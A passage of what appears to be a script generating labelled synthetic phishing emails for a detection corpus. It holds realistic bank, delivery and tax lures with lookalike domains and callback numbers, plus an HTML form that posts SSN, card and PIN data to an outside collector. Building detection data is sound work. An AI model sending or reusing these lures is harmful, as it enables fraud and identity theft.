add(slug="amazon-iphone-order-callback", cat="phishing", kind="phish",
    desc="Fake Amazon order confirmation for an iPhone 15 Pro Max sent from a Gmail account named 'Amazon.com'; no link, "
         "only a 'fraud department' phone number for a refund/remote-access callback scam.",
    frm=("Amazon.com", "ordersupport.amz.billing@gmail.com"), to=("Robert Kline", "rkline1957@comcast.net"),
    subj="Your Amazon.com order #112-4475209-8830154 has been placed", date="2024-11-29 10:14:03 -0500", **gm(41),
    body=multi("alternative", [plain(
        "Amazon.com\n\nHello Robert,\n\nThank you for shopping with us. Your order has been placed and will ship today.\n\n"
        "Order #112-4475209-8830154\nApple iPhone 15 Pro Max (256 GB) - Natural Titanium   Qty 1   $1,299.00\n"
        "AppleCare+ for iPhone (2 years)   $199.00\nOrder total: $1,498.00\nPayment: Visa ending in ****\n\n"
        "If you did not place this order or want to cancel it, call our Fraud Prevention Department immediately at\n"
        "+1 (844) 957-3310 (toll free, 24/7). Orders not disputed within 24 hours cannot be refunded.\n\n"
        "Amazon.com Customer Service\n"), hpart(
        '<div dir="ltr"><table width="600" style="font-family:Arial,sans-serif;font-size:14px;color:#111">'
        '<tr><td style="background:#232f3e;padding:12px"><span style="color:#ff9900;font-size:24px;font-weight:bold">amazon</span></td></tr>'
        '<tr><td style="padding:16px">Hello Robert,<br><br>Thank you for shopping with us. Your order has been placed and will ship today.'
        '<br><br><b>Order #112-4475209-8830154</b><table width="100%" style="border-top:1px solid #ddd;margin-top:8px">'
        '<tr><td>Apple iPhone 15 Pro Max (256 GB) - Natural Titanium</td><td>Qty 1</td><td align="right">$1,299.00</td></tr>'
        '<tr><td>AppleCare+ for iPhone (2 years)</td><td></td><td align="right">$199.00</td></tr>'
        '<tr><td colspan="2"><b>Order total</b></td><td align="right"><b>$1,498.00</b></td></tr></table><br>'
        'If you did not place this order or want to cancel it, call our Fraud Prevention Department immediately at '
        '<b>+1 (844) 957-3310</b> (toll free, 24/7). Orders not disputed within 24 hours cannot be refunded.<br><br>'
        'Amazon.com Customer Service</td></tr></table></div>')], "gmail"))

add(slug="amazon-account-locked-workers", cat="phishing", kind="phish",
    desc="Amazon 'account on hold, verify payment' lure from a lookalike amzn domain passing its own SPF/DKIM, linking to a "
         "workers.dev page that mimics the Amazon sign-in.",
    frm=("Amazon", "account-update@amzn-accountcenter.com"), to=("Linda Park", "lindapark_72@yahoo.com"),
    subj="Action required: Your Amazon account has been placed on hold", date="2025-06-03 03:27:51 +0000",
    ip="91.215.153.87", helo="smtp.amzn-accountcenter.com", auth=OWN, dkim=("amzn-accountcenter.com", "mail"),
    body=card_alt(
        "amazon", "#ff9900", "Your account has been placed on hold",
        ["Hello,", "We noticed a problem with your latest order and the payment method on file could not be verified. "
         "As a precaution your Amazon account and pending orders are on hold, and Prime benefits are suspended.",
         "To restore full access, please verify your information within 48 hours. Otherwise your account will be closed "
         "and any pending orders cancelled."],
        ("Verify now", "https://amzn-signin-verify.jnsk-4e2.workers.dev/ap/signin?openid.return_to=account&session=8C2F-41AA-93D0"),
        "© 1996-2025, Amazon.com, Inc. or its affiliates. Amazon.com, 410 Terry Avenue North, Seattle, WA 98109-5210.",
        style="sfmc"))

PAYPAL_FOOT = ("PayPal is committed to preventing fraudulent emails. Emails from PayPal will always contain your full name. "
               "Copyright © 1999-2025 PayPal, Inc. All rights reserved. PayPal, Inc. 2211 North First Street, San Jose, CA 95131.")

add(slug="paypal-invoice-callback-note", cat="phishing", kind="phish",
    desc="A genuine PayPal invoice (service@paypal.com, all authentication passes) created by a scammer's merchant account; "
         "the seller note claims a $599.99 McAfee charge and gives a phone number to call — a callback refund scam.",
    frm=("service@paypal.com", "service@paypal.com"), to=("Karen Mitchell", "kmitchell.home@gmail.com"),
    subj="Invoice from Secure Billing Dept (#INV-0042719)", date="2025-03-17 12:48:09 -0700",
    ip="173.0.84.226", helo="mx0.slc.paypal.com", rdns="mx0.slc.paypal.com", auth=PASS, dkim=("paypal.com", "pp-dkim1"),
    mfrom="service@paypal.com", hdrs=["X-Email-Type-Id: PPX001017", "X-MaxCode-Template: PPC001017"],
    body=card_alt(
        "PayPal", "#003087", "Secure Billing Dept sent you an invoice for $599.99 USD",
        ["Hello, Karen Mitchell", "Invoice number: INV-0042719<br>Due date: On receipt<br>Amount due: <b>$599.99 USD</b>",
         "<b>Seller note to customer:</b><br>Your PayPal account has been charged $599.99 for McAfee Total Protection "
         "3-Device Auto Renewal. If you did not authorize this transaction or want to cancel, call our support desk at "
         "+1 (808) 290-4471 within 24 hours to get a full refund. Do not pay this invoice."],
        ("View and Pay Invoice", "https://www.paypal.com/invoice/p/#INV2-7QKD-Y4RB-2MNX-HF8Z"),
        PAYPAL_FOOT, logo="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png",
        style="sfmc"))

add(slug="paypal-money-request-uk", cat="phishing", kind="phish",
    desc="Genuine PayPal UK money request (service@paypal.co.uk, authenticated) abused by a scam account: the request note "
         "says the account was suspended and to ring a fake PayPal 'Resolution Centre' number.",
    frm=("PayPal", "service@paypal.co.uk"), to=("Graham Fletcher", "graham.fletcher@btinternet.com"),
    subj="Sophie Warner has requested £379.00 GBP", date="2024-08-08 19:02:37 +0100",
    ip="173.0.84.231", helo="mx1.slc.paypal.com", auth=PASS, dkim=("paypal.co.uk", "pp-dkim1"),
    hdrs=["X-Email-Type-Id: PPX000713"],
    body=card_alt(
        "PayPal", "#003087", "Sophie Warner requested £379.00 GBP",
        ["Hi Graham Fletcher,", "Note from Sophie Warner:<br><i>\"PayPal Notice: suspicious activity detected on your account. "
         "A charge of £379.00 will be taken for a Bitcoin purchase. If this wasn't you, call PayPal Resolution Centre "
         "on 0808 196 4427 to cancel. Do not pay this request.\"</i>",
         "Request date: 8 August 2024<br>Amount requested: £379.00 GBP"],
        ("Pay Now", "https://www.paypal.com/myaccount/transfer/requests/4R2817705X963351T"),
        PAYPAL_FOOT.replace("PayPal, Inc. 2211 North First Street, San Jose, CA 95131", "PayPal (Europe) S.à r.l. et Cie, S.C.A."),
        style="sfmc"))

add(slug="netflix-payment-ipfs", cat="phishing", kind="phish",
    desc="Netflix 'membership on hold, update payment' lure from a lookalike billing domain (own SPF/DKIM pass) whose "
         "button opens a card-harvesting page served from an IPFS gateway with the victim's address in the fragment.",
    frm=("Netflix", "info@netflix-billing-update.co"), to=("Chloe Bennett", "chloe_bennett93@hotmail.co.uk"),
    subj="Your membership is on hold – update your payment details", date="2025-01-19 21:33:12 +0000",
    ip="194.163.152.40", helo="vmi1834.netflix-billing-update.co", auth=OWN, dkim=("netflix-billing-update.co", "k1"),
    body=card_alt(
        "NETFLIX", "#e50914", "Let's fix your payment",
        ["Hi Chloe,", "We're having some trouble with your current billing information. We'll try again, but in the meantime "
         "you may want to update your payment details.", "Your membership will be cancelled on 21 January if we can't "
         "process the payment."],
        ("UPDATE ACCOUNT", "https://ipfs.io/ipfs/bafybeihx3kz7q2nd5rwe4yq7mpsltc6gb2vjq4x2hm5rvdz7n3c6o4ualm/nf-update.html#chloe_bennett93@hotmail.co.uk"),
        "Questions? Call 0808-196-5391<br>Netflix International B.V.", style="php"))

add(slug="chase-compromised-wordpress", cat="phishing", kind="phish",
    desc="Chase 'access restricted' lure sent by PHPMailer from a compromised pool-supply WordPress site (SPF, DKIM and "
         "DMARC pass for that domain) with the credential kit hosted in the same site's wp-content uploads.",
    frm=("Chase Online", "wordpress@lonestarpoolsupply.com"), to=("Jason Rivera", "jrivera.tx@gmail.com"),
    subj="Important: Your account access has been temporarily restricted", date="2024-09-24 02:11:45 -0500",
    ip="162.241.218.77", helo="box5512.bluehost.com", auth=PASS, dkim=("lonestarpoolsupply.com", "default"), p="NONE",
    relay=["Received: from [102.129.143.20] (port=51522 helo=lonestarpoolsupply.com)\n\tby box5512.bluehost.com with esmtpa (Exim 4.96.2)"
           "\n\t(envelope-from <wordpress@lonestarpoolsupply.com>)\n\tid 1st9Kq-00Fh2E-1R\n\tfor jrivera.tx@gmail.com;\n\t{date}"],
    hdrs=PHP, body=card_alt(
        "CHASE", "#117aca", "We've restricted access to your account",
        ["Dear Chase Customer,", "We detected an unusual sign-in attempt on your Chase Online℠ profile on 09/23/2024 from an "
         "unrecognized device. For your protection we have temporarily restricted online access and debit card transactions.",
         "To restore access, sign in and confirm your identity. If we don't hear from you within 24 hours, your card will "
         "be permanently blocked."],
        ("Confirm Identity", "https://lonestarpoolsupply.com/wp-content/uploads/2024/09/chase/secure/login.php?session=b7f1a9c2e03d"),
        "JPMorgan Chase Bank, N.A. Member FDIC. © 2024 JPMorgan Chase &amp; Co.", style="php"))

add(slug="wellsfargo-zelle-r2", cat="phishing", kind="phish",
    desc="Wells Fargo 'Zelle payment pending, cancel if not you' lure from a lookalike alerts domain passing its own "
         "authentication, linking to a Cloudflare r2.dev bucket hosting the sign-on kit.",
    frm=("Wells Fargo Online", "alerts@wellsfargo-zellepay.com"), to=("Patricia Nguyen", "patnguyen_sj@yahoo.com"),
    subj="Zelle® payment of $1,480.00 is pending your review", date="2025-04-09 08:55:20 -0700",
    ip="23.254.229.14", helo="mta2.wellsfargo-zellepay.com", auth=OWN, dkim=("wellsfargo-zellepay.com", "mta"),
    body=card_alt(
        "WELLS FARGO", "#d71e28", "Zelle® payment pending",
        ["Patricia,", "A Zelle® payment of <b>$1,480.00</b> to <b>MARCUS T.</b> (marcus.t.4471@gmail.com) was initiated from your "
         "Everyday Checking account ending in 6620 on 04/09/2025.", "If you did not authorize this payment, cancel it now "
         "before it is sent. Payments cannot be reversed once delivered."],
        ("Cancel payment", "https://pub-7c3e91a0d4b24f6e8a1c5d2e9f0b6a17.r2.dev/wf/signon/index.html?uid=pn6620&amt=1480"),
        "Wells Fargo Bank, N.A. Member FDIC. Please do not reply to this automated email.", style="sfmc"))

add(slug="capitalone-pdf-qr", cat="phishing", kind="phish",
    desc="Capital One account-review quishing: a lookalike domain (own SPF/DKIM) sends a PDF whose only call to action is "
         "a QR code pointing to a vercel.app kit, keeping the URL out of the email body.",
    frm=("Capital One", "noreply@capone-securedocs.net"), to=("Brian Sullivan", "brian.sullivan77@outlook.com"),
    subj="Document ready: Account review required (ref. CO-558210)", date="2025-03-04 14:20:05 -0500",
    ip="45.154.98.66", helo="mail.capone-securedocs.net", auth=OWN, dkim=("capone-securedocs.net", "s2025"),
    body=mixed(alt("Dear Cardholder,\n\nA secure document regarding your Capital One account is attached. Open it and scan "
                   "the QR code with your phone camera to complete the required review.\n\nCapital One Servicing\n",
                   "<html><body style=\"font-family:Arial;font-size:14px\"><p>Dear Cardholder,</p><p>A secure document regarding "
                   "your Capital One account is attached. Open it and scan the QR code with your phone camera to complete the "
                   "required review.</p><p>Capital One Servicing</p></body></html>", "php"),
               attachment("application/pdf", "CapitalOne_Account_Review_CO-558210.pdf", qr_pdf(
                   ["Capital One - Account Review Required", "", "Reference: CO-558210", "Cardholder: BRIAN SULLIVAN", "",
                    "We were unable to verify recent activity on your account.", "Scan the code below with your phone to confirm",
                    "your details. Unverified accounts will be restricted after 48 hours."],
                   "https://c1-secure-review.vercel.app/m/?d=YnJpYW4uc3VsbGl2YW43N0BvdXRsb29rLmNvbQ==", "Account Review")),
               style="php"))

add(slug="barclays-new-payee-sendgrid", cat="phishing", kind="phish",
    desc="Barclays 'new payee added' lure sent through SendGrid for a lookalike domain (SPF/DKIM pass, no DMARC); the "
         "button is a SendGrid click-tracking redirect to a t.ly short link that ends on a Barclays login kit.",
    frm=("Barclays", "service@barclaysuk-secure.com"), to=("Aisha Khan", "aisha.khan.uk@gmail.com"),
    subj="A new payee has been added to your account", date="2024-12-02 18:40:31 +0000",
    ip="149.72.143.19", helo="o1678.shared.sendgrid.net", rdns="o1678.shared.sendgrid.net",
    mfrom="bounces+29384756-3f1a-aisha.khan.uk=gmail.com@em8812.barclaysuk-secure.com",
    auth=OWN, dkim=("barclaysuk-secure.com", "s1"),
    body=card_alt(
        "Barclays", "#00aeef", "New payee added",
        ["Dear Customer,", "A new payee <b>J WRIGHT (sort code 20-45-77)</b> was added to your account using the Barclays app "
         "on a new device at 18:31 today.", "If this was you, there's nothing you need to do. If you don't recognise this "
         "activity, cancel the payee now to protect your money."],
        ("Cancel payee", "https://u29384756.ct.sendgrid.net/ls/click?upn=u001.Xk7bH2RwqPZ1Ocd4sCq3yNfA9hW2jGmE-2BtLq7Vf3x0Y"
                         "-3D-3Dq1Lk_t.ly-2FBq7Xn"),
        "Barclays Bank UK PLC. Authorised by the Prudential Regulation Authority. Registered in England. Registered No. 9740322.",
        style="sfmc"))

add(slug="hsbc-direct-spoof-junk", cat="phishing", kind="phish",
    desc="Direct spoof of hsbc.co.uk from a VPS: SPF fails, no DKIM, DMARC fails and Gmail quarantined it to spam; "
         "'payment blocked, verify identity' with a link to a .shop lookalike.",
    frm=("HSBC UK", "security@hsbc.co.uk"), to=("Tom Whitaker", "tom.whitaker1968@gmail.com"),
    subj="We've blocked a payment from your account", date="2025-05-14 06:12:48 +0100",
    ip="5.181.80.146", helo="vps-4471.hostkey.nl", rdns="vps-4471.hostkey.nl", mfrom="security@hsbc.co.uk",
    auth=("fail", "none", "fail"), p="REJECT",
    body=card_alt(
        "HSBC UK", "#db0011", "Payment blocked",
        ["Dear Customer,", "We blocked a payment of <b>£1,249.00</b> to CURRYS ONLINE from your account today because it "
         "looked unusual.", "If you did not make this payment, please verify your identity so we can secure your account "
         "and issue a new card."],
        ("Verify my identity", "https://hsbc-uk-secure.shop/online/dsp/IDV.cgi?ref=HUK4481920&src=email"),
        "HSBC UK Bank plc, 1 Centenary Square, Birmingham, B1 1HQ. Registered in England and Wales (company number: 09928412).",
        style="php"))

add(slug="natwest-canva-design-share", cat="phishing", kind="phish",
    desc="Genuine Canva share notification (canva.com, authenticated) for a design titled as a NatWest secure message; the "
         "Canva page carries a 'view message' button to the credential kit, so the email itself only links canva.com.",
    frm=("Canva", "no-reply@canva.com"), to=("Ryan Doyle", "ryan.doyle87@hotmail.co.uk"),
    subj="NatWest Secure Messages shared a design with you", date="2025-02-26 11:17:40 +0000",
    ip="54.240.11.84", helo="a11-84.smtp-out.amazonses.com", mfrom="0100019540a5d2e3-7c1b9f4e-1d2a-4c55-8f3e-6a0b9c2d1e4f-000000@amazonses.com",
    auth=("pass", "pass", "pass"), dkim=("canva.com", "q3fz5ybmr6w4jcr2kj3aqwzsmvxdtcl6"),
    body=card_alt(
        "Canva", "#8b3dff", "NatWest Secure Messages shared a design with you",
        ["<b>NatWest - Secure Message Centre: You have 1 unread message regarding your account review</b>",
         "\"Please review the attached secure message before 28/02/2025 to avoid restrictions on your account.\""],
        ("Open design", "https://www.canva.com/design/DAGd7Kx1q9Y/Fa7Ha0qR0yLm2x1VnQfR5A/view?utm_content=DAGd7Kx1q9Y&utm_campaign=designshare&utm_medium=link2&utm_source=sharebutton"),
        "You received this email because NatWest Secure Messages shared a design with you on Canva.<br>"
        "Canva®, 110 Kippax St, Surry Hills NSW 2010, Australia", style="sfmc"))

add(slug="rbc-interac-etransfer-lookalike", cat="phishing", kind="phish",
    desc="Fake Interac e-Transfer deposit notice 'from RBC Royal Bank' sent from a lookalike interac domain (own SPF/DKIM), "
         "whose Deposit button leads to a bank-picker page that steals online-banking credentials.",
    frm=("INTERAC e-Transfer", "notify@interac-etransfer-deposit.com"), to=("Denise Tremblay", "dtremblay@shaw.ca"),
    subj="INTERAC e-Transfer: RBC ROYAL BANK sent you money.", date="2024-07-16 09:31:57 -0600",
    ip="193.149.129.52", helo="mail.interac-etransfer-deposit.com", auth=OWN, dkim=("interac-etransfer-deposit.com", "dkim"),
    body=card_alt(
        "Interac e-Transfer", "#fdb913", "RBC ROYAL BANK sent you $740.00 (CAD)",
        ["Hi DENISE TREMBLAY,", "RBC ROYAL BANK sent you $740.00 (CAD).", "Message: <i>Refund of overpaid account fees "
         "- reference 2024-CA-88107</i>", "Expires: July 19, 2024"],
        ("Deposit Your Money", "https://interac-etransfer-deposit.com/cgi-bin/deposit/?l=en&pid=CA9xMq7Rk2pV4tWz8nB1"),
        "This email was sent to you by Interac Corp., the owner of the Interac e-Transfer service, on behalf of RBC ROYAL BANK. "
        "Interac Corp. Royal Bank Plaza, North Tower, 200 Bay St., Toronto, ON M5J 2J1", style="sfmc"))

add(slug="commbank-netbank-suspended", cat="phishing", kind="phish",
    desc="CommBank 'NetBank access suspended' lure from a lookalike commbank-netbank-au.com domain (own SPF/DKIM) with a "
         "link to a cloned NetBank log-on page on the same domain.",
    frm=("CommBank", "netbank@commbank-netbank-au.com"), to=("Gary Thompson", "garythompson@bigpond.com"),
    subj="NetBank: Your access has been suspended", date="2025-07-08 05:46:02 +1000",
    ip="103.195.103.17", helo="mail.commbank-netbank-au.com", auth=OWN, dkim=("commbank-netbank-au.com", "default"),
    hdrs=PHP, body=card_alt(
        "CommBank", "#ffcc00", "Your NetBank access has been suspended",
        ["Dear Customer,", "As part of our security upgrade we were unable to verify your details, and access to NetBank and "
         "the CommBank app has been suspended.", "Please log on and complete verification today to restore access. "
         "This only takes 2 minutes."],
        ("Log on to NetBank", "https://commbank-netbank-au.com/netbank/Logon/Logon.aspx?ei=mv_logon-NB&acc=7741"),
        "Commonwealth Bank of Australia ABN 48 123 123 124 AFSL and Australian credit licence 234945", style="php"))

add(slug="nab-sharepoint-onenote-share", cat="phishing", kind="phish",
    desc="Genuine SharePoint Online sharing notification sent from a compromised Australian accounting firm's Microsoft 365 "
         "tenant ('NAB remittance advice' OneNote); passes all checks and links to the tenant's real SharePoint, where the "
         "OneNote page points to a NAB login kit.",
    frm=("Mark Petrovic", "no-reply@sharepointonline.com"), to=("Sharon Walsh", "swalsh@bigpond.net.au"),
    subj="Mark Petrovic shared \"NAB - Remittance Advice 2409\" with you", date="2024-09-12 13:08:26 +1000",
    ip="40.107.108.55", helo="SY5PR01CU010.outbound.protection.outlook.com", auth=PASS,
    dkim=("sharepointonline.com", "selector1"), reply_to="Mark Petrovic <mark@petrovicaccounting.com.au>",
    hdrs=["X-MS-Exchange-Organization-SharingInvite: true"],
    body=card_alt(
        "Microsoft SharePoint", "#036c70", "Mark Petrovic shared a file with you",
        ["Here's the document that Mark Petrovic shared with you.",
         "<b>NAB - Remittance Advice 2409</b><br>\"Please find payment remittance from National Australia Bank attached. "
         "Kind regards, Mark\"", "This link will work for anyone."],
        ("Open", "https://petrovicaccounting-my.sharepoint.com/:o:/g/personal/mark_petrovicaccounting_com_au/"
                 "EuW4vK2H7QdCt1nX9oRm3ZsBq0h1Xy6Lk8aP5cV2mT4dNg?e=Xk4pQm"),
        "Microsoft respects your privacy. To learn more, please read our Privacy Statement.<br>"
        "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052", style="outlook"))

add(slug="usps-address-fee-top", cat="phishing", kind="phish",
    desc="USPS 'package on hold, incomplete address, pay $0.30 redelivery fee' lure from a .top lookalike (own SPF/DKIM), "
         "linking to a card-harvesting redelivery page.",
    frm=("USPS", "informeddelivery@uspsdelivery-redelivery.top"), to=("Donna Reyes", "donnareyes61@yahoo.com"),
    subj="USPS: Your package is on hold due to an incomplete address", date="2024-12-17 14:03:11 -0500",
    ip="38.180.147.201", helo="mx.uspsdelivery-redelivery.top", auth=OWN, dkim=("uspsdelivery-redelivery.top", "s1"),
    body=card_alt(
        "USPS", "#333366", "Delivery attempt unsuccessful",
        ["Tracking Number: <b>US9514901185421</b>", "Your package has arrived at the warehouse but could not be delivered "
         "due to incomplete address information. Please confirm your address in the link within 12 hours.",
         "A redelivery fee of $0.30 applies. Packages not claimed are returned to sender."],
        ("Update address", "https://usps-redelivery-scheduling.top/us/?track=US9514901185421"),
        "The USPS team wishes you a wonderful day.<br>© 2024 United States Postal Service", style="php"))

add(slug="royalmail-parcel-fee-uk", cat="phishing", kind="phish",
    desc="Royal Mail 'parcel waiting, £1.99 shipping fee' lure from a lookalike .uk domain (own SPF/DKIM, no DMARC) with a "
         "tracking-style link to a card form.",
    frm=("Royal Mail", "noreply@royalmail-redelivery.uk"), to=("Margaret Hughes", "mhughes52@btinternet.com"),
    subj="Royal Mail: Your parcel is waiting - action required", date="2025-01-07 10:22:58 +0000",
    ip="185.246.220.91", helo="mail.royalmail-redelivery.uk", auth=OWN, dkim=("royalmail-redelivery.uk", "rm"),
    body=card_alt(
        "Royal Mail", "#da202a", "We have a parcel for you",
        ["Dear customer,", "Your parcel <b>RM482917553GB</b> could not be delivered because an outstanding shipping fee of "
         "<b>£1.99</b> has not been paid.", "Please pay the fee and choose a new delivery date. If payment is not received "
         "within 48 hours, your parcel will be returned to the sender."],
        ("Reschedule delivery", "https://royalmail-redelivery.uk/track/?id=RM482917553GB&s=e7"),
        "Royal Mail Group Ltd 2025. All rights reserved.", style="php"))

add(slug="canadapost-bilingual-fee", cat="phishing", kind="phish",
    desc="Bilingual Canada Post / Postes Canada failed-delivery lure from a lookalike 'livraison' domain (own SPF/DKIM) "
         "asking for a $2.99 customs/redelivery fee on a payment page.",
    frm=("Canada Post | Postes Canada", "suivi@canadapost-livraison.info"), to=("Kevin MacDonald", "kmacdonald.yyc@shaw.ca"),
    subj="Canada Post: Delivery attempt failed / Tentative de livraison échouée", date="2024-10-03 14:48:20 -0600",
    ip="185.117.90.214", helo="mail.canadapost-livraison.info", auth=OWN, dkim=("canadapost-livraison.info", "x"),
    body=card_alt(
        "Canada Post | Postes Canada", "#e4051f", "Delivery attempt failed / Tentative de livraison échouée",
        ["Your package 7023 4410 8865 2217 could not be delivered because duty fees of $2.99 are unpaid.",
         "Votre colis n'a pas pu être livré : des frais de douane de 2,99 $ n'ont pas été payés. Veuillez payer et "
         "reprogrammer la livraison."],
        ("Reschedule / Reprogrammer", "https://canadapost-livraison.info/track-repere/?pin=7023441088652217"),
        "© Canada Post Corporation / Société canadienne des postes", style="php"))

add(slug="ezpass-unpaid-google-amp", cat="phishing", kind="phish",
    desc="E-ZPass 'final notice, unpaid toll $6.89' lure from a lookalike toll domain (own SPF/DKIM); the pay link is a "
         "google.com/amp/s/ wrapper around the toll-payment kit to borrow Google's reputation.",
    frm=("E-ZPass New Jersey", "notice@e-zpass-njtoll.com"), to=("Anthony Russo", "anthonyrusso.nj@gmail.com"),
    subj="FINAL NOTICE: Unpaid toll balance of $6.89", date="2025-01-28 07:15:36 -0500",
    ip="104.168.158.30", helo="mail.e-zpass-njtoll.com", auth=OWN, dkim=("e-zpass-njtoll.com", "default"),
    body=card_alt(
        "E-ZPass", "#6a2c91", "Unpaid toll notice",
        ["Our records show that your vehicle has an outstanding toll balance of <b>$6.89</b>.",
         "To avoid a late fee of $50.00 and suspension of your E-ZPass account and vehicle registration, please settle "
         "your balance by <b>January 30, 2025</b>."],
        ("Pay Now", "https://www.google.com/amp/s/ezpassnj-tollservice.com/pay%3Finv%3DNJ-58193"),
        "E-ZPass New Jersey Customer Service Center, P.O. Box 4971, Trenton, NJ 08650", style="php"))

IRS_FORM = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>IRS - Refund Form 1040-R</title>
<style>body{font-family:Arial;background:#f0f0f0}.box{width:620px;margin:30px auto;background:#fff;padding:24px;border-top:6px solid #00599c}
label{display:block;margin-top:10px;font-size:13px}input{width:100%;padding:6px}</style></head>
<body><div class="box"><img src="https://www.irs.gov/pub/irs-utl/irs-logo.png" width="140" alt="IRS">
<h2>Tax Refund Request - Form 1040-R</h2><p>Complete the form to receive your refund of <b>$1,284.63</b>.</p>
<form method="POST" action="https://taxrefund-processing.onrender.com/submit.php">
<label>Full name</label><input name="fn"><label>Social Security Number</label><input name="ssn">
<label>Date of birth</label><input name="dob"><label>Address</label><input name="addr">
<label>Card number (for refund deposit)</label><input name="cc"><label>Expiration</label><input name="exp">
<label>CVV</label><input name="cvv"><label>Card PIN</label><input name="pin" type="password">
<input type="submit" value="Submit Refund Request" style="margin-top:16px;background:#00599c;color:#fff"></form></div></body></html>
"""

add(slug="irs-refund-html-form", cat="phishing", kind="phish",
    desc="IRS tax-refund lure from a lookalike irs-gov domain (own SPF/DKIM) carrying an HTML attachment: a local form "
         "asking for SSN, card number and PIN that POSTs to an onrender.com collector.",
    frm=("IRS - Internal Revenue Service", "refunds@irs-gov-refund.com"), to=("William Harris", "wharris1949@comcast.net"),
    subj="Tax Refund Notification: $1,284.63 pending", date="2025-04-22 11:09:44 -0400",
    ip="172.86.114.208", helo="smtp.irs-gov-refund.com", auth=OWN, dkim=("irs-gov-refund.com", "mail"),
    body=mixed(plain("Internal Revenue Service\nUnited States Department of the Treasury\n\nTax Refund Notification\n\n"
                     "After the last annual calculations of your fiscal activity we have determined that you are eligible to "
                     "receive a tax refund of $1,284.63.\n\nPlease download the attached Form 1040-R, open it in your browser and "
                     "complete it. Refunds are normally processed within 3-5 business days.\n\nNote: a refund can be delayed "
                     "for a variety of reasons, e.g. submitting invalid records or applying after the deadline.\n\n"
                     "Internal Revenue Service\n"),
               attachment("text/html", "IRS_Refund_Form_1040-R.html", IRS_FORM.encode()), style="php"))

add(slug="hmrc-refund-mailgun-netlify", cat="phishing", kind="phish",
    desc="HMRC 'you are due a tax refund of £436.20' lure sent through Mailgun for a lookalike gov-uk domain (SPF/DKIM "
         "pass, no DMARC) linking to a netlify.app clone of the GOV.UK sign-in.",
    frm=("HM Revenue & Customs", "noreply@hmrc-gov-refund.uk"), to=("Emma Clarke", "emmaclarke.leeds@gmail.com"),
    subj="HMRC: You are due a tax refund", date="2025-05-30 08:02:19 +0100",
    ip="159.135.228.41", helo="m228-41.mailgun.net", rdns="m228-41.mailgun.net",
    mfrom="bounce+4f21c7.8a0e3d-emmaclarke.leeds=gmail.com@mg.hmrc-gov-refund.uk",
    auth=OWN, dkim=("hmrc-gov-refund.uk", "krs"), hdrs=["X-Mailgun-Sending-Ip: 159.135.228.41"],
    body=card_alt(
        "GOV.UK", "#0b0c0c", "You are due a tax refund",
        ["Dear taxpayer,", "After the last annual calculation of your fiscal activity, HM Revenue &amp; Customs has determined "
         "that you are eligible to receive a tax refund of <b>£436.20</b>.", "Please submit the tax refund request and allow "
         "us 3-5 working days to process it."],
        ("Claim your refund", "https://hmrc-refund-claim.netlify.app/?ref=UTR-8830147752&utm_source=email"),
        "HM Revenue &amp; Customs<br>This is an automated message, please do not reply.", style="sfmc"))

add(slug="cra-refund-google-forms", cat="phishing", kind="phish",
    desc="Canada Revenue Agency refund lure from a Gmail account named 'Canada Revenue Agency' linking to a Google Forms "
         "questionnaire that collects SIN, date of birth and online-banking details.",
    frm=("Canada Revenue Agency", "cra.arc.refunds.ca@gmail.com"), to=("Sarah Chen", "sarah.chen88@live.ca"),
    subj="CRA - Your Interac e-Transfer refund of $812.44 is ready", date="2025-03-11 12:36:50 -0400", **gm(44),
    body=gmail_alt(
        "Canada Revenue Agency / Agence du revenu du Canada\n\nNotice of reassessment\n\nFollowing the reassessment of your "
        "2024 return you are entitled to a refund of $812.44 CAD through Interac e-Transfer.\n\nTo receive the deposit, "
        "complete the secure CRA form within 72 hours:\n"
        "https://docs.google.com/forms/d/e/1FAIpQLSc7fR2mVq9xYb3Kp0LwZt8nHs4JdE6uGa1oT5yBiN2cMq7wXg/viewform?usp=sf_link\n\n"
        "Reference: CRA-RF-2024-558019\n\nCanada Revenue Agency"))

add(slug="mygov-ato-compromised-m365", cat="phishing", kind="phish",
    desc="myGov / ATO 'new message about your tax refund' lure sent from a compromised dental clinic's Microsoft 365 "
         "mailbox (SPF, DKIM, DMARC all pass) with a link to an azurewebsites.net myGov sign-in clone.",
    frm=("myGov", "reception@harbourviewdental.com.au"), to=("Peter Nguyen", "peter.nguyen.syd@outlook.com.au"),
    subj="myGov: You have a new message about your tax refund", date="2024-08-20 15:27:33 +1000",
    ip="40.107.108.91", helo="SY5PR01CU010.outbound.protection.outlook.com", auth=PASS,
    dkim=("harbourviewdental.com.au", "selector1"),
    hdrs=["X-MS-Has-Attach:", "X-MS-TNEF-Correlator:", "Thread-Topic: myGov: You have a new message about your tax refund"],
    body=outlook_alt("myGov\n\nYou have a new message in your myGov Inbox from the Australian Taxation Office.\n\n"
                     "Your 2023-24 tax assessment has resulted in a refund of $963.17 that has not yet been claimed. "
                     "Sign in to myGov to view the message and confirm your bank details:\n"
                     "https://mygov-ato-refund.azurewebsites.net/LoginServices/main/login?execution=e1s1&ref=ATO-REF-29974\n\n"
                     "Please do not reply to this email.\nThe myGov team"))

add(slug="dvla-spoof-outlook-junk", cat="phishing", kind="phish",
    desc="Direct spoof of dvla.gov.uk (SPF fail, no DKIM, DMARC fail, Outlook 'oreject' to junk): 'vehicle tax payment "
         "failed' with a link to a .co lookalike that collects card details.",
    frm=("DVLA", "noreply@dvla.gov.uk"), to=("Stephen Price", "steve.price71@hotmail.co.uk"),
    subj="Vehicle tax payment failed - your vehicle is no longer taxed", date="2024-11-05 09:51:27 +0000",
    ip="80.92.205.118", helo="host118-205.ipvps.eu", mfrom="noreply@dvla.gov.uk", auth=("fail", "none", "fail"), p="REJECT",
    body=card_alt(
        "DVLA", "#0b0c0c", "Your latest vehicle tax payment failed",
        ["Dear Customer,", "The latest Direct Debit payment for your vehicle tax was not received by your bank. Your vehicle "
         "is now <b>untaxed</b> and you could be fined up to £1,000.", "Please update your payment details online to "
         "avoid a penalty and clamping."],
        ("Update payment details", "https://dvla-vehicle-tax.co/renew/?ref=VT-88201-GB"),
        "Driver and Vehicle Licensing Agency, Swansea, SA6 7JL", style="php"))

DMV_URL = "https://dmv-ca-citation.icu/pay?c=CA-TV-5520194"
add(slug="dmv-traffic-citation-qr-body", cat="phishing", kind="phish",
    desc="California DMV 'unpaid traffic violation, registration suspension' notice from a lookalike domain (own SPF/DKIM) "
         "with no clickable link: the payment URL is only in an inline QR code image.",
